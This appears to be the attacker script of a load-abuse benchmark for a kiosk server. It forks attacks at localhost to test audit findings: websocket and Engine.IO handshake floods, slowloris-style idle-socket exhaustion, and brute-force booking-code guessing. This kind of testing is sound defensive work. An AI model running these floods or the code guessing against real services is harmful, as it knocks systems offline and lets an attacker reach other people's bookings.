// bench/abuse's attacker, in a process of its own so its event loop and its open files are not the
// honest kiosk's: run.js forks it once per attack with the attack's name, the server's port, how
// long to attack and from which address, and it sends back one line of what it did.
import { Agent, request } from 'node:http';
import { connect as tcp } from 'node:net';
import { readFileSync } from 'node:fs';
import { io, Manager } from 'socket.io-client';

const [attack, port, durationMs, from] = process.argv.slice(2);
const URL = `http://127.0.0.1:${port}`;
const stop = Date.now() + Number(durationMs);
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

function openFileLimit() {
  const line = readFileSync('/proc/self/limits', 'utf8').split('\n').find((l) => l.startsWith('Max open files'));
  return Number(line?.split(/\s+/)[3] ?? 1024);
}

/** One websocket after another sending `40/kiosk,{"token":"wrong"}` in a loop (finding 1). */
async function handshakeFlood() {
  let sent = 0;
  let connections = 0;
  let refusedAtDoor = 0;
  while (Date.now() < stop) {
    const manager = new Manager(URL, { transports: ['websocket'], reconnection: false, autoConnect: false, localAddress: from });
    const opened = await new Promise((r) => manager.open((e) => r(!e)));
    if (!opened) {
      refusedAtDoor += 1;
      manager.engine?.close();
      await sleep(20);
      continue;
    }
    connections += 1;
    const engine = manager.engine;
    while (Date.now() < stop && engine.readyState === 'open') {
      for (let i = 0; i < 50; i++, sent++) engine.write('0/kiosk,{"token":"wrong"}');
      await sleep(5);
    }
    engine.close();
  }
  return `connect packets sent ${sent} on ${connections} connections; ${refusedAtDoor} connections refused at the door`;
}

/**
 * Engine.IO handshakes, `GET /socket.io/?EIO=4&transport=polling` with no token and no namespace,
 * in a loop over 8 keep-alive connections (the audit of finding 1: 162,691 sessions in 12 s took
 * the office from 106 to 958 MiB). Each answered handshake is a session the server holds.
 */
async function pollingFlood() {
  const agents = Array.from({ length: 8 }, () => new Agent({ keepAlive: true, maxSockets: 1 }));
  const answers = {};
  const handshake = (agent) =>
    new Promise((resolve) => {
      const req = request({ host: '127.0.0.1', port: Number(port), path: '/socket.io/?EIO=4&transport=polling', localAddress: from, agent }, (res) => {
        res.resume().on('end', () => resolve(res.statusCode));
      });
      req.on('error', () => resolve('error')).end();
    });
  const started = Date.now();
  await Promise.all(
    agents.map(async (agent) => {
      while (Date.now() < stop) {
        const status = await handshake(agent);
        answers[status] = (answers[status] ?? 0) + 1;
      }
    }),
  );
  agents.forEach((a) => a.destroy());
  const total = Object.values(answers).reduce((a, b) => a + b, 0);
  const seconds = (Date.now() - started) / 1000;
  return `handshakes ${total} (${(total / seconds).toFixed(0)}/s): sessions opened ${answers[200] ?? 0}, refused at the door ${answers[403] ?? 0}${Object.entries(answers).filter(([k]) => k !== '200' && k !== '403').map(([k, v]) => `, ${k} ${v}`).join('')}`;
}

/** A header line and silence, on as many sockets as asked (finding 2). */
async function idleSockets() {
  const limit = openFileLimit();
  const wanted = 20_000;
  const count = Math.min(wanted, limit - 100);
  const sockets = [];
  let closedByServer = 0;
  let errors = 0;
  for (let i = 0; i < count && Date.now() < stop; i++) {
    const s = tcp({ host: '127.0.0.1', port: Number(port), localAddress: from });
    s.on('error', () => (errors += 1)).on('close', () => (closedByServer += 1));
    s.resume();
    s.write('GET /healthz HTTP/1.1\r\nHost: x\r\n');
    sockets.push(s);
    if (i % 500 === 499) await sleep(10);
  }
  const openedBy = Date.now();
  while (Date.now() < stop) await sleep(100);
  const open = sockets.filter((s) => s.readyState === 'open').length;
  sockets.forEach((s) => s.destroy());
  const tried = `${count}${count < wanted ? ` (${wanted} scaled to the open-file limit ${limit})` : ''}`;
  return `opened ${sockets.length} of ${tried} in ${((openedBy - (stop - Number(durationMs))) / 1000).toFixed(1)} s, closed by the server ${closedByServer}, still open at the end ${open}, errors ${errors}`;
}

/** Booking-code guesses with a real kiosk token, 20 in flight at a time (finding 3). */
async function codeGuessing() {
  const attacker = io(`${URL}/kiosk`, { auth: { token: 'demo-kiosk-2' }, transports: ['websocket'], localAddress: from, reconnection: false });
  const ok = await new Promise((r) => (attacker.once('connect', () => r(true)), attacker.once('connect_error', () => r(false))));
  if (!ok) return 'attacker could not connect';
  let checked = 0;
  let refused = 0;
  const started = Date.now();
  let n = 0;
  while (Date.now() < stop) {
    const answers = await Promise.all(Array.from({ length: 20 }, () => attacker.timeout(5000).emitWithAck('booking:check-in', { code: String(100_000_000_000 + n++) }).catch(() => ({}))));
    for (const a of answers) a.code === 'booking-not-found' ? (checked += 1) : (refused += 1);
  }
  attacker.disconnect();
  return `guesses checked ${(checked / ((Date.now() - started) / 1000)).toFixed(2)}/s (${checked} in all), refused ${refused}`;
}

/**
 * The control: a process as busy as an attacker can be (one core, spinning) that sends the server
 * nothing. On a shared 2-core machine another busy process alone moves the honest p99; this says
 * by how much, so an attack's own cost can be told from the machine's.
 */
async function busyNoTraffic() {
  let spins = 0;
  while (Date.now() < stop) {
    const slice = Date.now() + 50;
    while (Date.now() < slice) spins += 1;
    await sleep(0);
  }
  return `sent nothing; spun ${spins} times`;
}

const attacks = { 'busy-no-traffic': busyNoTraffic, 'polling-flood': pollingFlood, 'handshake-flood': handshakeFlood, 'idle-sockets': idleSockets, 'code-guessing': codeGuessing };
const result = await attacks[attack]();
const { userCPUTime, systemCPUTime } = process.resourceUsage();
process.send?.({ result, cpuPercent: (((userCPUTime + systemCPUTime) / 1000 / Number(durationMs)) * 100).toFixed(0) });
process.exit(0);
